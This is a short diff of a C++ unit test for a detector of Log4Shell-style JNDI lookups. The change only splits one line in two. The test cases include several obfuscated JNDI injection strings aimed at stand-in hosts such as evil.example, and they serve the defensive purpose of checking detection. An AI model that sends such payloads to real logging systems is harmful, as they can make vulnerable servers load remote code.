@@ -12,7 +12,8 @@ TEST(Jndi, AttacksAreFound) {
       {"${${lower:j}ndi:ldap://evil.example/a}", "jndi: jndi lookup"},
       {"${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/a}", "jndi: jndi lookup"},
       {"${${env:NaN:-j}ndi${env:NaN:-:}ldap://x/a}", "jndi: jndi lookup"},
-      {"%24%7Bjndi%3Adns%3A%2F%2Fx%7D", "jndi: jndi lookup"},      {"${HOME}/bin", ""},
+      {"%24%7Bjndi%3Adns%3A%2F%2Fx%7D", "jndi: jndi lookup"},
+      {"${HOME}/bin", ""},
       {"costs ${amount}", ""},
   };
   for (const Case& c : cases) EXPECT_EQ(verdict(c.input), c.expected) << c.input;
